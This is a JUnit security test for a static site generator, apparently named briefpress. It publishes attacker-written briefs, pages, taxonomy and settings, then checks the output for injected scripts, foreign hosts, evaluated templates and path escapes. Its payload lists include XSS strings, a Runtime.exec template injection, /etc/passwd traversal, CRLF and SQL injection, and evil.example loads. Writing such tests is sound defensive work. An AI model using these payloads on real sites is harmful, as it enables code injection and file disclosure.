package dev.briefpress.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.briefpress.publish.MemoryFolder;
import dev.briefpress.publish.OwnParts;
import dev.briefpress.publish.SampleNewsroom;
import dev.briefpress.publish.SampleText;
import dev.briefpress.text.Characters;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.ParserConfigurationException;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.xml.sax.SAXException;
import tools.jackson.databind.ObjectMapper;

/**
 * A site written by an attacker, published as a whole and read as a browser does: no script but
 * ours, nothing of another host, no template expression evaluated, no link out of the site, and no
 * file written or read outside of it.
 */
class HostileSiteTest {
  /** What stands in every field of a brief, one brief each. */
  private static final List<String> TEXTS =
      List.of(
          "<script>alert(1)</script>",
          "</title></head><script src=//evil.example/x.js></script>",
          "\"><img src=x onerror=alert(1)>",
          "' onmouseover='alert(1)",
          "\" onfocus=\"alert(1)\" autofocus=\"",
          "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
          "</script><script>alert(1)</script>",
          "<!-- --!><img src=x onerror=alert(1)> -->",
          "]]><script>alert(1)</script><![CDATA[",
          "<?xml-stylesheet href=\"//evil.example/x.xsl\"?>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "${7*7191}",
          "[[${7*7191}]] [(${7*7191})] x",
          "__${7*7191}__::.x",
          "~{::main} #{nav.skip} @{//evil.example} *{title}",
          "<b th:text=\"${7*7191}\" data-th-utext=\"${7*7191}\">x</b>",
          "${T(java.lang.Runtime).getRuntime().exec('id')}",
          "#{7*7191} {{7*7191}} <%= 7*7191 %> %{7*7191}",
          "../../../../etc/passwd",
          "..\\..\\windows\\system32",
          "/etc/passwd\u0000.html",
          "C:\\autoexec.bat",
          "CON",
          "a\u0001b\u0007c\u001b[31md\u007f",
          "user\u202Egnp.exe\u202D and \u2066more\u2069",
          "javascript:alert(1)",
          "JaVa\tScRiPt:alert(1)",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "vbscript:msgbox(1)",
          "//evil.example/x",
          "[x](javascript:alert(1)) ![y](https://evil.example/pixel.png)",
          "x\u2028alert(1)\u2029",
          "\uFEFF\uFFFE\uFFFFx",
          "\uD800 lone",
          "a\r\nSet-Cookie: x=1",
          "\" '); DROP TABLE briefs; --",
          "<style>@import '//evil.example/x.css'</style>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<base href=//evil.example/>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<a href=\"&#106;avascript:alert(1)\">x</a>");

  private static final String CATEGORIES = "categories:\n  - {id: cyber, name: Cybersecurity}\n";

  private static final Set<String> FORBIDDEN =
      Set.of(
          "iframe", "frame", "object", "embed", "applet", "base", "svg", "math", "style", "portal");

  private static final Set<String> ADDRESSES =
      Set.of("href", "src", "action", "formaction", "poster", "data", "background", "cite", "ping");

  private static final SortedMap<String, Integer> SEEN = new TreeMap<>();

  private final Path folder;
  private final Path home;
  private final Path output;
  private final SampleNewsroom site = SampleNewsroom.empty();
  private final CommandLineRun line = new CommandLineRun();

  HostileSiteTest(@TempDir(factory = MemoryFolder.class) Path folder) {
    this.folder = folder;
    this.home = folder.resolve("site");
    this.output = home.resolve("output");
    // Whatever may be turned off is: what protects readers must not be a rule's severity.
    settings("");
    site.put("content/taxonomy.yaml", CATEGORIES);
  }

  private void settings(String more) {
    StringBuilder out =
        new StringBuilder("site.title=News\nsite.host=https://briefs.example.org\n" + more);
    for (String rule : RULES_THAT_GUARD) {
      out.append("check.").append(rule).append("=off\n");
    }
    site.put("site.properties", out.toString());
  }

  private static final List<String> RULES_THAT_GUARD =
      List.of(
          "safety/raw-html",
          "safety/link-scheme",
          "safety/remote-image",
          "safety/escapes-site",
          "link/broken",
          "link/broken-anchor",
          "link/crowded-footer",
          "link/near-duplicate-tag",
          "link/duplicate-address",
          "link/reserved-address",
          "file/name",
          "front-matter/syntax",
          "front-matter/bad-url",
          "front-matter/bad-slug");

  @Test
  void textInEveryFieldStaysText() throws IOException {
    for (int i = 0; i < TEXTS.size(); i++) {
      site.put("content/briefs/hostile-%02d.md".formatted(i), hostile(TEXTS.get(i)).text());
      site.put("content/pages/hostile-%02d.md".formatted(i), page(TEXTS.get(i)));
    }
    site.put("content/summaries/2026-03-01.md", edition(String.join("\n\n", TEXTS)));

    publish();

    List<String> pages = SampleNewsroom.tree(output).keySet().stream().toList();
    assertThat(pages.stream().filter(p -> p.matches("briefs/.*hostile-\\d+\\.html")))
        .as(line.err())
        .hasSize(TEXTS.size());
    assertHarmless();
  }

  @Test
  void aCharacterThatNoFileMayHoldIsRefused() {
    for (String text : TEXTS) {
      if (text.chars().anyMatch(c -> Characters.isUnfit(Character.toString(c), 0))) {
        site.put(
            "content/pages/bad.md",
            "---\ntitle: Bad\nsummary: %s\n---\n\nText.\n".formatted(SampleText.quoted(text)));

        assertThat(build()).as(text).isEqualTo(ExitCode.CONTENT);

        assertThat(line.err()).contains("file/control-character");
      }
    }
  }

  @Test
  void textInTheTaxonomyStaysText() throws IOException {
    StringBuilder taxonomy = new StringBuilder(CATEGORIES);
    StringBuilder tags = new StringBuilder("tags:\n");
    StringBuilder entities = new StringBuilder("entities:\n");
    StringBuilder techniques = new StringBuilder("techniques:\n");
    for (int i = 0; i < TEXTS.size(); i++) {
      String text = SampleText.quoted(inBody(TEXTS.get(i)));
      taxonomy.append(
          "  - {id: c%d, name: %s, short: %s, description: %s}\n".formatted(i, text, text, text));
      tags.append("  - {name: \"tag %d\", description: %s}\n".formatted(i, text));
      entities.append("  - {name: %s, aliases: [\"entity %d\"]}\n".formatted(text, i));
      techniques.append("  - {name: \"technique %d\", description: %s}\n".formatted(i, text));
      site.put(
          "content/briefs/b%d.md".formatted(i),
          new SampleText("A title %d".formatted(i))
              .field("category", "c" + i)
              .field("tags", "[tag %d]".formatted(i))
              .entity("entity " + i)
              .technique("technique " + i)
              .text());
    }
    site.put("content/taxonomy.yaml", "" + taxonomy + tags + entities + techniques);

    publish();

    assertThat(output.resolve("categories/c3.html")).exists();
    assertThat(output.resolve("techniques/technique-3.html")).exists();
    assertHarmless();
  }

  @Test
  void textInTheSettingsStaysText() throws IOException {
    for (String text :
        List.of(TEXTS.get(1), TEXTS.get(2), TEXTS.get(6), TEXTS.get(13), TEXTS.get(16))) {
      String value = text.replace("\\", "\\\\");
      settings(
          """
          site.tagline=%1$s
          site.description=%1$s
          site.publisher=%1$s
          site.product=%1$s
          site.provenance=%1$s
          """
              .formatted(value));
      site.put("content/briefs/one.md", new SampleText("One").text());

      publish();

      assertHarmless();
    }
  }

  @Test
  void aLinkOrImageThatMayNotBeThereIsNoLink() throws IOException {
    String[] targets = {
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java&Tab;script:alert(1)",
      "java&NewLine;script:alert(1)",
      "&#x6A;avascript:alert(1)",
      "&#1;javascript:alert(1)",
      "%6Aavascript:alert(1)",
      "vbscript:x",
      "data:text/html,<script>alert(1)</script>",
      "data:image/svg+xml,<svg onload=alert(1)>",
      "file:///etc/passwd",
      "//evil.example/x",
      "\\\\\\\\evil.example\\\\x",
      "/\\\\evil.example",
      "https:evil.example",
      "../../../../../etc/passwd",
      "/../site.properties",
      "/%2e%2e/%2e%2e/site.properties",
      "..%2f..%2fsite.properties",
      "/..\\\\site.properties",
      "x.png\" onerror=\"alert(1)",
      "${7*7191}",
      "feed:https://evil.example",
      "blob:https://evil.example/x",
      "filesystem:https://evil.example/x",
      "view-source:javascript:alert(1)"
    };
    StringBuilder text = new StringBuilder();
    for (String target : targets) {
      text.append(
              "[link](<%1$s>) ![image](<%1$s>) [r%2$d] <%1$s>\n\n".formatted(target, text.length()))
          .append("[r%d]: <%s> \"title\"\n\n".formatted(text.length(), target));
    }
    site.put(
        "content/briefs/one.md",
        new SampleText("One").section("implications", text.toString()).text());
    site.put("content/pages/two.md", "---\ntitle: Two\n---\n\n" + text);

    publish();

    assertThat(output.resolve("two.html")).exists();
    assertHarmless();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "slug: ../../../outside",
        "slug: /etc/passwd",
        "slug: \"a\\0b\"",
        "slug: con",
        "slug: \"..\"",
        "aliases: [../../outside.html]",
        "aliases: [/../outside.html]",
        "aliases: [\"/a\\\\..\\\\..\\\\outside.html\"]",
        "aliases: [\"//evil.example/x.html\"]",
        "aliases: [\"javascript:alert(1)\"]",
        "aliases: [\"/C:/outside.html\"]",
        "aliases: [\"/a\\nb.html\"]",
        "aliases: [/briefpress-manifest.txt]",
        "aliases: [/index.html]",
        "aliases: [/.htaccess]",
        "aliases: [/search/search.js]",
        "related: [../../outside]",
        "lang: 'en\"><script>alert(1)</script>'",
        "category: ../../outside",
        "schema: ../../../etc/passwd",
        "sources: [{title: x, url: 'javascript:alert(1)'}]",
        "sources: [{title: x, url: 'data:text/html,x'}]",
        "sources: [{title: x, url: '//evil.example'}]",
      })
  void aFieldThatWouldLeaveTheSiteIsRefusedOrHarmless(String field) throws IOException {
    String name = field.substring(0, field.indexOf(':'));
    site.put("content/briefs/good.md", new SampleText("Good").text());
    publish();
    SortedMap<String, String> before = SampleNewsroom.tree(folder);
    String value = field.substring(field.indexOf(':') + 2);
    site.put("content/briefs/bad.md", new SampleText("Bad").field(name, value).text());

    int status = build();

    if (status == ExitCode.CONTENT) {
      assertThat(line.err()).contains("error[", "content/briefs/bad.md");
      site.write(home);
      assertThat(SampleNewsroom.tree(output)).isEqualTo(below(before, "site/output/"));
    } else if (status == ExitCode.USAGE) {
      assertThat(line.err()).contains("two pages have the address");
    } else {
      assertThat(status).isEqualTo(ExitCode.WELL);
    }
    assertHarmless();
    assertNothingOutside(before);
  }

  @Test
  void namesOfFilesAreAddressesOfFiles() throws IOException {
    String[] names = {
      "a b.png",
      "q?x=1.png",
      "h#x.png",
      "p%2e%2e.png",
      "\"onerror=alert(1).png",
      "<script>alert(1)<.png",
      "'x'.png",
      "${7*7191}.png",
      "&amp;.png",
      "é.png"
    };
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < names.length; i++) {
      site.image("content/pages/" + names[i], i);
      String encoded = URI.create("x:/").resolve(encoded(names[i])).getRawPath();
      text.append("![image](%s) [file](%1$s)\n\n".formatted(encoded.substring(1)));
      site.image("assets/files/" + names[i], i);
    }
    site.put("content/pages/two.md", "---\ntitle: Two\n---\n\n" + text);
    settings("asset.folder=assets\n");

    publish();

    // A name with a mark that means something in an address or in a tag cannot be linked to, which
    // link/broken tells; here it is turned off.
    List<String> shown = Stream.of(names).filter(name -> !name.matches(".*[#%\"<>].*")).toList();
    assertThat(Jsoup.parse(read("two.html")).select("main img")).hasSameSizeAs(shown);
    assertHarmless();
  }

  @Test
  void aNameThatReadsAsAnotherIsRefused() {
    site.put("content/pages/two.md", "---\ntitle: Two\n---\n\nText.\n");
    site.put("content/taxonomy.yaml", CATEGORIES + "tags:\n  - {name: \"a\\u202eb\"}\n");
    assertThat(build()).isEqualTo(ExitCode.USAGE);
    assertThat(line.err()).contains("stands for the control character U+202E");

    site.put("content/taxonomy.yaml", CATEGORIES);
    site.put("site.properties", "site.title=News\nasset.folder=assets\n");
    site.image("assets/\u202Egnp.png", 1);
    assertThat(build()).isEqualTo(ExitCode.CONTENT);
    assertThat(line.err()).contains("file/asset");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "content/briefs/link.md",
        "content/briefs/link.png",
        "content/pages/folder",
        "content/schemas/link.yaml",
        "content/taxonomy.yaml",
        "assets/link.txt",
        "assets/folder",
        "themes/dispatch/assets/img/link.svg",
        "themes/dispatch/assets/folder",
        "themes/dispatch/pages/home.html",
        "site.properties"
      })
  void noSymbolicLinkLeadsOutOfTheSite(String name) throws IOException {
    Path secret = Files.createDirectories(folder.resolve("elsewhere"));
    Files.writeString(secret.resolve("secret.txt"), "outsidesecret: {x: outsidesecret\n");
    site.put("site.properties", "site.title=News\nasset.folder=assets\n");
    site.put("assets/own.txt", "own");
    site.put("content/briefs/good.md", new SampleText("Good").text());
    site.write(home);
    Path link = home.resolve(name);
    Files.createDirectories(link.resolveSibling(""));
    Files.deleteIfExists(link);
    Files.createSymbolicLink(link, name.endsWith("folder") ? secret : secret.resolve("secret.txt"));

    int status = line.run("build", "--site", home.toString());

    assertThat(status).as(line.err()).isNotEqualTo(ExitCode.WELL);
    assertThat(line.err() + line.out()).doesNotContain("outsidesecret");
    for (String text : SampleNewsroom.tree(output).values()) {
      assertThat(text).doesNotContain("outsidesecret");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"content", "deep/content", "themes", "themes/dispatch", "assets"})
  void noFolderOfTheSiteIsALink(String name) throws IOException {
    site.put("site.properties", "site.title=News\nasset.folder=assets\n");
    site.put("content/briefs/good.md", new SampleText("Good").text());
    site.put("assets/own.txt", "own");
    site.put("themes/dispatch/messages.properties", "footer.made=outsidesecret");
    if (name.startsWith("deep")) {
      site.put("deep/content/briefs/good.md", new SampleText("Good").text());
      site.put("site.properties", "site.title=News\ncontent.folder=deep/content\n");
    }
    site.write(home);
    Path link = home.resolve(name.startsWith("deep") ? "deep" : name);
    Path elsewhere = Files.move(link, folder.resolve("elsewhere"));
    Files.createSymbolicLink(link, elsewhere);

    int status = line.run("build", "--site", home.toString());

    assertThat(status).as(line.err()).isIn(ExitCode.CONTENT, ExitCode.USAGE);
    assertThat(line.err()).containsAnyOf("symbolic link", "no plain file inside the site");
    assertThat(output).doesNotExist();
  }

  @Test
  void whatIsNoFileIsNotReadAsOne() throws IOException {
    site.write(home);
    Files.delete(home.resolve("content/taxonomy.yaml"));
    Files.createDirectory(home.resolve("content/taxonomy.yaml"));

    assertThat(line.run("build", "--site", home.toString())).isEqualTo(ExitCode.USAGE);
    assertThat(line.err()).contains("no regular file", "content/taxonomy.yaml");
  }

  @Test
  void newAndImportWriteNothingWhereALinkLeads() throws IOException {
    site.put("content/briefs/good.md", new SampleText("Good").text());
    site.write(home);
    Path elsewhere = Files.createDirectory(folder.resolve("elsewhere"));
    Files.createSymbolicLink(home.resolve("content/briefs/2026"), elsewhere);
    Path text =
        Files.writeString(folder.resolve("t.txt"), "A title\n\nDate: 2026-01-30\n\nText.\n");

    assertThat(line.run("new", "--site", home.toString(), "--date", "2026-01-30", "A title"))
        .isEqualTo(ExitCode.USAGE);
    line.run("import", "--site", home.toString(), "--force", text.toString());

    assertThat(line.err()).contains("content/briefs/2026 is a symbolic link");
    assertThat(elsewhere).isEmptyDirectory();
  }

  private static SampleText hostile(String text) {
    String quoted = SampleText.quoted(inBody(text));
    return new SampleText(inBody(text) + " title")
        .field("tags", "[ports, %s]".formatted(SampleText.quoted("tag " + inBody(text))))
        .field("summary", quoted)
        .field("kicker", quoted)
        .field("corrections", "[{on: 2026-03-05, text: %s}]".formatted(quoted))
        .field("review", "{by: %s, on: 2026-03-05}".formatted(quoted))
        .field(
            "sources",
            "[{title: %1$s, publisher: %1$s, author: %1$s, reliability: B, credibility: 2}]"
                .formatted(quoted))
        .field("ai", "{use: assisted, tools: [%1$s], responsible: %1$s}".formatted(quoted))
        .section("hypothesis", "Before it " + inBody(text) + " after it.")
        .section("implications", "Before it.\n\n" + inBody(text) + "\n\nAfter it.")
        .entity("Person " + inBody(text).replace(",", ""));
  }

  // Without what no file may hold, which a test of its own tries.
  private static String inBody(String text) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      boolean fit = !Characters.isUnfit(text, i) && text.charAt(i) != '\n';
      out.append(fit ? text.charAt(i) : ' ');
    }
    return out.toString();
  }

  private static String page(String text) {
    return "---\ntitle: %1$s\nsummary: %1$s\nnav: %1$s\n---\n\n%2$s\n\n## On %2$s\n\n| %2$s |\n|---|\n| %2$s |\n"
        .formatted(SampleText.quoted(inBody(text)), inBody(text));
  }

  private static String edition(String text) {
    return "---\ndate: 2026-03-01\ntitle: %s\n---\n\n%s\n"
        .formatted(SampleText.quoted(TEXTS.get(2)), inBody(text));
  }

  private void publish() {
    assertThat(build()).as(() -> line.err()).isEqualTo(ExitCode.WELL);
  }

  private int build() {
    line.clear();
    site.write(home);
    return line.run("build", "--site", home.toString(), "--now", "2026-04-01");
  }

  private void assertNothingOutside(SortedMap<String, String> before) {
    Set<String> files = new TreeSet<>(SampleNewsroom.tree(folder).keySet());
    files.removeAll(before.keySet());
    files.removeIf(
        f ->
            f.startsWith("site/output/")
                || f.startsWith("site/.briefpress/")
                || f.startsWith("site/content/"));
    assertThat(files).isEmpty();
  }

  private static SortedMap<String, String> below(SortedMap<String, String> tree, String start) {
    SortedMap<String, String> below = new TreeMap<>();
    tree.forEach(
        (path, text) -> {
          if (path.startsWith(start)) {
            below.put(path.substring(start.length()), text);
          }
        });
    return below;
  }

  /** Reads every file of the output as its readers do. */
  private void assertHarmless() throws IOException {
    for (String path : SampleNewsroom.tree(output).keySet()) {
      if (path.endsWith(".html")) {
        page(path, Jsoup.parse(read(path)));
      } else if (path.endsWith(".xml")) {
        assertWellFormed(path);
      } else if (path.endsWith(".json")) {
        new ObjectMapper().readTree(Files.readAllBytes(output.resolve(path)));
      }
      if (path.matches(".*\\.(html|xml|json|txt)") && !path.startsWith("files/")) {
        plainText(path, read(path));
      }
    }
  }

  private void assertWellFormed(String path) throws IOException {
    try {
      DocumentBuilderFactory factory = DocumentBuilderFactory.newDefaultInstance();
      factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
      factory
          .newDocumentBuilder()
          .parse(new ByteArrayInputStream(Files.readAllBytes(output.resolve(path))));
    } catch (SAXException | ParserConfigurationException e) {
      throw new AssertionError(path + " is not well-formed XML", e);
    }
  }

  private void plainText(String path, String text) {
    // A sum may have these digits by chance.
    assertThat(text.replaceAll("\\b[0-9a-f]{64}\\b", ""))
        .as(path + ": an evaluated expression")
        .doesNotContain("50337");
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean control =
          (c < ' ' && c != '\n' && c != '\t') || c == 0x7f || c == '\u202D' || c == '\u202E';
      if (control) {
        assertThat(text.substring(Math.max(0, i - 60), Math.min(text.length(), i + 20)))
            .as(path + ": U+%04X".formatted((int) c))
            .isEmpty();
      }
    }
  }

  private void page(String path, Document page) throws IOException {
    OwnParts.removeCharts(page);
    assertThat(page.select("[id]").eachAttr("id")).as(path).doesNotHaveDuplicates();
    for (Element element : page.getAllElements()) {
      String name = element.normalName();
      assertThat(FORBIDDEN).as(path + ": " + element).doesNotContain(name);
      if (name.equals("script")) {
        script(path, element);
      }
      for (Attribute attribute : element.attributes()) {
        attribute(path, element, attribute);
      }
    }
    assertThat(page.select("title")).as(path).hasSize(1);
    assertThat(page.select("main")).as(path).hasSize(1);
    page.select("#page-filter:not([action])").unwrap();
    assertThat(page.select("form:not([action$=index.html][role=search])")).as(path).isEmpty();
    assertThat(page.select("input:not(form input, #filter-field)")).as(path).isEmpty();
  }

  private static void script(String path, Element script) {
    if (script.attr("type").equals("application/ld+json")) {
      assertThat(script.data()).as(path).doesNotContain("<");
      new ObjectMapper().readTree(script.data());
    } else {
      assertThat(script.data()).as(path).isEmpty();
      assertThat(script.attr("src")).as(path).matches(OwnParts.SCRIPT);
    }
  }

  private void attribute(String path, Element element, Attribute attribute) {
    String name = attribute.getKey().toLowerCase(Locale.ROOT);
    String where = path + ": " + element.shallowClone();
    assertThat(name).as(where).matches("[a-z][a-z0-9-]*");
    assertThat(name).as(where).doesNotMatch("on.*|srcdoc|srcset|data-th-.*|xmlns.*|formaction");
    // The theme writes the styles of a mail, whose readers have no style sheet.
    assertThat(name.equals("style") && !path.endsWith(".mail.html")).as(where).isFalse();
    if (name.equals("http-equiv")) {
      assertThat(attribute.getValue()).as(where).isEqualTo("refresh");
      assertThat(element.attr("content")).as(where).startsWith("0; url=");
      address(path, element.attr("content").substring("0; url=".length()), where, false);
    } else if (ADDRESSES.contains(name)) {
      boolean reading = element.normalName().equals("a") || element.attr("rel").equals("canonical");
      address(path, attribute.getValue(), where, reading);
    }
  }

  // Where a browser would go: only links that a reader follows lead to other hosts.
  private void address(String path, String address, String where, boolean outside) {
    URI uri =
        URI.create("https://here.example/").resolve(encodedPath(path)).resolve(URI.create(address));
    boolean here = "here.example".equals(uri.getHost()) && "https".equals(uri.getScheme());
    SEEN.merge(here ? "inside" : String.valueOf(uri.getScheme()), 1, Integer::sum);
    if (!here) {
      assertThat(outside).as(where).isTrue();
      assertThat(uri.getScheme()).as(where).isIn("http", "https", "mailto", "tel");
      return;
    }
    assertThat(address).as(where).doesNotStartWith("//").doesNotStartWith("\\");
    assertThat(uri.getPath()).as(where).doesNotContain("/../");
    Path file = output.resolve(uri.getPath().substring(1)).normalize();
    assertThat(file.startsWith(output)).as(where).isTrue();
    if (!uri.getPath().isEmpty() && !uri.getPath().equals("/")) {
      assertThat(file).as(where).exists();
    }
  }

  private static String encodedPath(String path) {
    List<String> names = new ArrayList<>();
    for (String name : path.split("/", -1)) {
      names.add(encoded(name));
    }
    return String.join("/", names);
  }

  private static String encoded(String name) {
    StringBuilder out = new StringBuilder();
    for (byte b : name.getBytes(StandardCharsets.UTF_8)) {
      if (Character.isLetterOrDigit(b) || b == '.' || b == '-' || b == '_') {
        out.append((char) b);
      } else {
        out.append("%%%02X".formatted(b & 0xff));
      }
    }
    return out.toString();
  }

  private String read(String path) {
    try {
      return Files.readString(output.resolve(path));
    } catch (IOException e) {
      throw new UncheckedIOException(path, e);
    }
  }
}
